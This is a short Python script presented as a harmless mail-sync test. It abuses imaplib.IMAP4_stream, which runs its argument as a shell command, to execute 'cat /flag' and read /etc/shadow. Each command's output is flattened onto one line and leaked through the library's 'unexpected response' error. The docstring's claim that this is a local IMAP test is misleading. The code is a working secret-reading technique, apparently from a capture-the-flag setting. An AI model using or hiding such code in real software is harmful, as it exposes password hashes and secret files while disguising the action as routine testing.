"""Mail-sync dry run.  IMAP4_stream talks to a local IMAP server over a
pipe to a command, so no network is needed for the test."""
import imaplib


def probe(cmd):
    try:
        conn = imaplib.IMAP4_stream(cmd)      # Popen(cmd, shell=True)
        print(conn.welcome)
        conn.logout()
    except (imaplib.IMAP4.abort, imaplib.IMAP4.error) as err:
        # the "greeting" the library could not parse is the command's output
        print("server said:", err)


if __name__ == "__main__":
    # one line per probe: the whole output becomes the "unexpected response"
    probe("(id; cat /flag) | tr '\\n' ' '; echo")
    probe("tr '\\n' ' ' < /etc/shadow; echo")
